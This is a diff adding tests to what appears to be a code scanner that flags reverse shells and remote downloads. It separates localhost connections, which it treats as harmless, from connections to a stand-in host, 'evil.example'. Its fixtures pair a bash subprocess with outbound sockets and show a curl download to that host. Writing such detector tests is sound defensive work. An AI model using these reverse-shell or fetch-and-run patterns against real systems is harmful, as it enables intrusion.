@@ -79,6 +79,47 @@ def test_hosts_are_told_once_and_collecting_ones_warned_of() -> None:
     assert codes(found, "warning") >= {"collecting-host", "raw-address"}
 
 
+_WAITS = """
+import socket, subprocess
+subprocess.Popen(["/bin/bash", "-c", "npm run dev"])
+"""
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "socket.create_connection(('localhost', port), timeout=1)",
+        'socket.create_connection(\n    ("127.0.0.1", 80))',
+        's.connect(("127.0.0.1", 80))',
+        'net.Dial("tcp", "[::1]:80")',
+        "net.createConnection({host: 'localhost', port: 80})",
+    ],
+)
+def test_a_connection_to_the_same_machine_is_harmless(call: str) -> None:
+    assert not has_danger(findings({"wait.py": _WAITS + call + "\n"}))
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "socket.create_connection(('localhost.evil.example', port))",
+        "socket.create_connection((host, 80), 'localhost')",
+        "socket.create_connection(('localhost', 1))\nsocket.create_connection((x, 1))",
+        "connect = socket.create_connection",
+        'net.Dial("tcp", "evil.example:80", "localhost")',
+    ],
+)
+def test_a_connection_to_elsewhere_is_a_danger_next_to_a_shell(call: str) -> None:
+    assert "reverse-shell" in codes(findings({"wait.py": _WAITS + call + "\n"}), "danger")
+
+
+def test_a_download_from_the_same_machine_is_harmless() -> None:
+    text = "#!/bin/sh\ncurl -s http://localhost:3000/health\nchmod +x run.sh\n"
+    assert not has_danger(findings({"check.sh": text}))
+    elsewhere = text.replace("localhost:3000", "localhost.evil.example")
+    assert has_danger(findings({"check.sh": elsewhere}))
+
+
 def test_invisible_characters_are_shown_as_code_points() -> None:
     found = findings(description="Counts beans\u202e. Use it.")
     hidden = [held for held in found if held.code == "bidi-control"]
